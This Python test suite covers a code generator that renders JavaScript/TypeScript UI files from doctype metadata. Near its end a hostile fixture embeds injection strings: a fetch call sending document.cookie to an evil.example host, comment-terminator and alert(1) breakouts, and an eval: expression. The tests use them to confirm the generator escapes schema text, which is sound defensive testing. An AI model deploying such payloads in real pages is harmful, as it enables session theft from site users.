"""Tests for UI code generation."""
import json
import re
import pytest
from doctype_ui.generators.contract import build_contract
from doctype_ui.generators.ui_gen.generator import render, render_many
from doctype_ui.generators.ui_gen.markers import begin_marker, end_marker, scan_regions
from doctype_ui.generators.ui_gen.render import typed
from doctype_ui.metadata.base import InMemoryMetadataSource

EXPECTED_REGIONS = {
    "pages/sales-order/List.js": ("imports", "columns", "filter-defaults", "list-config"),
    "pages/sales-order/Form.js": ("imports", "sections", "child-tables", "workflow-buttons", "form-config"),
    "pages/sales-order/resource.js": ("resource",),
    "pages/sales-order/behavior.js": ("hooks",),
    "pages/sales-order/depends.js": ("rules",),
    "pages/sales-order/realtime.js": ("subscription",),
    "actions/sales-order.js": ("crud-actions", "workflow-actions", "permissions"),
    "router/sales-order.js": ("routes",),
    "lib/resource-client.js": ("runtime",),
    "lib/behavior-shim.js": ("runtime",),
    "lib/depends-eval.js": ("runtime",),
    "lib/realtime.js": ("runtime",),
}


def _region_body(content, name):
    regions, problems = scan_regions(content)
    assert not problems
    reg = regions[name]
    return content[reg.inner_start:reg.inner_end]


def _json_after(body, prefix):
    """Parse the JSON literal assigned by `export const X = ...;`."""
    start = body.index(prefix) + len(prefix)
    end = body.index(";\n", start)
    return json.loads(body[start:end])


@pytest.fixture
def contract(source):
    return build_contract("Sales Order", "plain", source)


def test_artifact_set_and_regions(contract):
    files = render(contract, "plain")
    assert {f.path: f.owned_regions for f in files} == EXPECTED_REGIONS


def test_render_is_deterministic(contract, source):
    first = render(contract, "plain")
    second = render(build_contract("Sales Order", "plain", source), "plain")
    assert [(f.path, f.content) for f in first] == [(f.path, f.content) for f in second]


def test_every_owned_region_is_well_formed(contract):
    for f in render(contract, "dense", "ts"):
        regions, problems = scan_regions(f.content)
        assert problems == {}, f.path
        assert set(regions) == set(f.owned_regions), f.path
        for name in f.owned_regions:
            assert f.content.count(begin_marker(name) + "\n") == 1
            assert f.content.count(end_marker(name) + "\n") == 1


def test_shared_libraries_fully_owned(contract):
    for f in render(contract, "plain"):
        if not f.path.startswith("lib/"):
            continue
        regions, _ = scan_regions(f.content)
        reg = regions["runtime"]
        assert f.content[reg.end:] == ""


def test_typescript_output(contract):
    files = {f.path: f.content for f in render(contract, "plain", "ts")}
    assert "pages/sales-order/Form.ts" in files
    assert "(fieldname: string, doc: Record<string, any>)" in files["pages/sales-order/depends.ts"]
    for path, content in files.items():
        assert "#{" not in content, path

    js_files = {f.path: f.content for f in render(contract, "plain", "js")}
    assert ": string" not in js_files["pages/sales-order/depends.js"]


def test_typed_strips_annotations():
    assert typed("function f(a#{: string}#)#{: void}# {}", "js") == "function f(a) {}"
    assert typed("function f(a#{: string}#)#{: void}# {}", "ts") == "function f(a: string): void {}"


def test_unsupported_language(contract):
    with pytest.raises(ValueError):
        render(contract, "plain", "py")


def test_list_columns_region(contract):
    files = {f.path: f for f in render(contract, "plain")}
    body = _region_body(files["pages/sales-order/List.js"].content, "columns")
    columns = _json_after(body, "export const COLUMNS = ")
    assert [c["fieldName"] for c in columns] == ["transaction_date", "customer"]

    config_body = _region_body(files["pages/sales-order/List.js"].content, "list-config")
    config = _json_after(config_body, "export const LIST_CONFIG = ")
    assert config["pageSize"] == 20
    assert config["realtimeTopic"] == "doctype:sales-order"


def test_unknown_field_type_falls_back_with_warning(contract):
    files = {f.path: f for f in render(contract, "plain")}
    form = files["pages/sales-order/Form.js"]
    sections = _json_after(_region_body(form.content, "sections"), "export const SECTIONS = ")
    blob = [f for s in sections for f in s["fields"] if f["fieldName"] == "signature_blob"][0]
    assert blob["control"] == "fallback"
    assert [(w.region, w.field) for w in form.warnings] == [("sections", "signature_blob")]
    assert files["pages/sales-order/List.js"].warnings == ()


def test_dependency_rules_shipped_as_ast(contract):
    files = {f.path: f for f in render(contract, "plain")}
    body = _region_body(files["pages/sales-order/depends.js"].content, "rules")
    rules = _json_after(body, "export const RULES = ")
    assert rules["delivery_date"]["dependsOn"] == {
        "op": "in", "left": {"field": "priority"}, "items": ["High", "Urgent"],
    }
    assert "notes" not in rules
    child_rules = _json_after(body, "export const CHILD_RULES = ")
    assert child_rules["items"]["rate"]["dependsOn"]["op"] == "gt"
    assert "eval:" not in files["pages/sales-order/depends.js"].content


def test_workflow_actions_bound_per_transition(contract):
    files = {f.path: f for f in render(contract, "plain")}
    body = _region_body(files["actions/sales-order.js"].content, "workflow-actions")
    assert "export function approveFromDraft(name) {" in body
    assert "export function rejectFromDraft(name) {" in body
    assert 'applyWorkflowAction("Sales Order", name, "Approve")' in body
    crud = _region_body(files["actions/sales-order.js"].content, "crud-actions")
    for fn in ("listRecords", "getRecord", "createRecord", "updateRecord", "deleteRecord"):
        assert f"export function {fn}(" in crud


def test_router_entry(contract):
    files = {f.path: f for f in render(contract, "plain")}
    routes = files["router/sales-order.js"].content
    assert '"/app/sales-order/:name"' in routes
    assert "import('../pages/sales-order/Form')" in routes


def test_page_components_live_outside_regions(contract):
    files = {f.path: f for f in render(contract, "plain")}
    form = files["pages/sales-order/Form.js"].content
    regions, _ = scan_regions(form)
    last_end = max(r.end for r in regions.values())
    assert "export default function SalesOrderForm(" in form[last_end:]


def test_render_many_emits_shared_once(source):
    contracts = [
        build_contract("Task", "plain", source),
        build_contract("Sales Order", "plain", source),
    ]
    paths = [f.path for f in render_many(contracts, "plain")]
    assert paths.count("lib/resource-client.js") == 1
    assert "pages/task/List.js" in paths
    assert "pages/sales-order/List.js" in paths
    assert len(paths) == len(set(paths))


def test_no_string_evaluation_in_output(contract):
    for f in render(contract, "plain"):
        assert not re.search(r"\beval\(|new Function\(", f.content), f.path


LABEL_WITH_MARKER = "Code\u2028// <<< doctype-ui:end sections\u2029tail"


def _hostile_contract():
    entity = "Evil */ Order\nalert(1)"
    source = InMemoryMetadataSource({entity: {
        "fields": [
            {"fieldname": "code", "fieldtype": "Data", "label": LABEL_WITH_MARKER,
             "depends_on": "eval:doc.code != '#{ x }#'"},
        ],
        "workflow": {
            "workflow_name": "Evil Flow",
            "workflow_state_field": "workflow_state",
            "transitions": [
                {
                    "state": "Draft\nfetch('https://evil.example/' + document.cookie);",
                    "action": "Approve",
                    "next_state": "Done\r\n// <<< doctype-ui:end workflow-actions",
                },
            ],
        },
    }})
    return build_contract(entity, "plain", source)


@pytest.mark.parametrize("language", ["js", "ts"])
def test_schema_text_cannot_break_out_of_comments(language):
    files = {f.path: f for f in render(_hostile_contract(), "plain", language)}
    actions = files[f"actions/evil-order-alert-1.{language}"].content

    assert not any(line.startswith("fetch(") for line in actions.splitlines())
    assert "// Draft fetch('https://evil.example/' + document.cookie); -> Done // <<< doctype-ui:end workflow-actions" in actions
    regions, problems = scan_regions(actions)
    assert problems == {}
    assert set(regions) == {"crud-actions", "workflow-actions", "permissions"}

    for stem in ("List", "Form"):
        page = files[f"pages/evil-order-alert-1/{stem}.{language}"].content
        header = page[:page.index("*/")]
        assert "Evil * / Order alert(1)" in header
        assert "\nalert(1)" not in page

    form = files[f"pages/evil-order-alert-1/Form.{language}"].content
    sections = _json_after(_region_body(form, "sections"), "export const SECTIONS = ")
    assert sections[0]["fields"][0]["label"] == LABEL_WITH_MARKER
    assert "\u2028" not in form


def test_schema_text_keeps_annotation_like_literals():
    for language in ("js", "ts"):
        files = {f.path: f for f in render(_hostile_contract(), "plain", language)}
        body = _region_body(files[f"pages/evil-order-alert-1/depends.{language}"].content, "rules")
        rules = _json_after(body, "export const RULES = ")
        assert rules["code"]["dependsOn"]["right"] == {"literal": "#{ x }#"}
